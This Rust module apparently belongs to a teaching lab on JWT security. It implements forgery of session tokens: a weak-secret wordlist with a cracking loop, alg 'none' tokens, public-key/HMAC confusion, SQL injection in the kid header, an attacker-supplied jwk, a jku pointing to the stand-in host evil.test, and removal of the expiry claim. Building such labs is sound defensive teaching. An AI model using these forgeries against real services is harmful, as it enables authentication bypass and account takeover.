//! Making a token out of another: every way that a lesson shows.

use serde_json::{Map, Value, json};

use crate::session::config::Alg;
use crate::session::drbg::{Drbg, Entropy, base64url};
use crate::session::input::Forgery;
use crate::session::key::{Bytes, NamedKey};
use crate::session::token::{signed, signing_input, take_apart};

/// The words that the attacker tries as a secret.
pub const WORDS: &[&str] = &[
    "secret",
    "password",
    "123456",
    "changeme",
    "jwt",
    "key",
    "your-256-bit-secret",
    "your_jwt_secret",
    "supersecret",
    "secretkey",
    "my-secret",
    "test",
    "admin",
    "qwerty",
    "letmein",
    "hello",
    "token",
    "s3cr3t",
    "default",
    "secret123",
];

/// The attacker's own key.
#[must_use]
pub fn evil_key(seed: u64) -> NamedKey {
    let mut drbg = Drbg(seed ^ 0x6576_696c);
    let mut key = NamedKey::make(&mut drbg as &mut dyn Entropy, Alg::EdDsa, 0, None);
    key.kid = "evil".to_owned();
    key
}

/// Tries the words on a token; how many were tried, and the key if one fits.
#[must_use]
pub fn crack(text: &str) -> (u32, Option<NamedKey>) {
    let Ok(parts) = take_apart(text) else { return (0, None) };
    let alg = crate::session::token::string(&parts.header, "alg").and_then(|alg| Alg::from_word(&alg));
    let Some(alg) = alg.filter(|alg| alg.is_hmac()) else { return (0, None) };
    let mut tried = 0;
    for word in WORDS {
        tried += 1;
        let kid = crate::session::token::string(&parts.header, "kid").unwrap_or_default();
        let key = NamedKey { kid, alg, bytes: Bytes::Secret(word.as_bytes().to_vec()) };
        if key.verifies(alg, parts.input.as_bytes(), &parts.signature) {
            return (tried, Some(key));
        }
    }
    (tried, None)
}

/// What a forgery is made with.
pub struct Workshop<'a> {
    /// The token it is made out of.
    pub original: &'a str,
    /// The role it shall have.
    pub role: Option<&'a str>,
    /// The subject it shall have.
    pub sub: Option<&'a str>,
    /// A public key of the servers.
    pub public: Option<&'a NamedKey>,
    /// A secret or key that was found or stolen.
    pub found: Option<&'a NamedKey>,
    /// The attacker's own key.
    pub own: &'a NamedKey,
}

/// The forged token; `None` when what it takes is not at hand.
#[must_use]
pub fn forge(how: &Forgery, with: &Workshop<'_>) -> Option<String> {
    let parts = take_apart(with.original).ok()?;
    let mut header: Map<String, Value> = serde_json::from_slice(&parts.header.octets).ok()?;
    let mut payload: Map<String, Value> = serde_json::from_slice(&parts.payload).ok()?;
    for (name, value) in [("role", with.role), ("sub", with.sub)] {
        if let Some(value) = value {
            payload.insert(name.into(), value.into());
        }
    }
    match how {
        Forgery::Tamper => Some(format!("{}.{}", signing_input(&header, &payload), base64url(&parts.signature))),
        Forgery::None(word) => {
            header.insert("alg".into(), word.as_str().into());
            Some(format!("{}.", signing_input(&header, &payload)))
        }
        Forgery::Confuse => {
            header.insert("alg".into(), "HS256".into());
            let secret = with.public?.jwk()?.to_string().into_bytes();
            Some(signed(&header, &payload, &hmac_key(secret)))
        }
        Forgery::Kid(kid) => {
            header.insert("alg".into(), "HS256".into());
            header.insert("kid".into(), kid.as_str().into());
            let known = kid.split_once("SELECT '").and_then(|(_, rest)| rest.split('\'').next()).unwrap_or_default();
            Some(signed(&header, &payload, &hmac_key(known.as_bytes().to_vec())))
        }
        Forgery::Jwk => {
            header.insert("alg".into(), with.own.alg.word().into());
            header.insert("kid".into(), with.own.kid.as_str().into());
            header.insert("jwk".into(), with.own.jwk()?);
            Some(signed(&header, &payload, with.own))
        }
        Forgery::Jku => {
            header.insert("alg".into(), with.own.alg.word().into());
            header.insert("kid".into(), with.own.kid.as_str().into());
            header.insert("jku".into(), json!("https://evil.test/jwks.json"));
            Some(signed(&header, &payload, with.own))
        }
        Forgery::Crack | Forgery::StolenKey => Some(signed(&header, &payload, with.found?)),
        Forgery::Typ(typ) => {
            header.insert("typ".into(), typ.as_str().into());
            Some(signed(&header, &payload, with.found?))
        }
        Forgery::Iss(issuer) => {
            payload.insert("iss".into(), issuer.as_str().into());
            Some(signed(&header, &payload, with.found?))
        }
        Forgery::Truncate => {
            let shorter: String = with.original.chars().take(with.original.chars().count().saturating_sub(4)).collect();
            Some(shorter)
        }
        Forgery::NoExp => {
            payload.shift_remove("exp");
            Some(signed(&header, &payload, with.found?))
        }
    }
}

fn hmac_key(secret: Vec<u8>) -> NamedKey {
    NamedKey { kid: String::new(), alg: Alg::Hs256, bytes: Bytes::Secret(secret) }
}
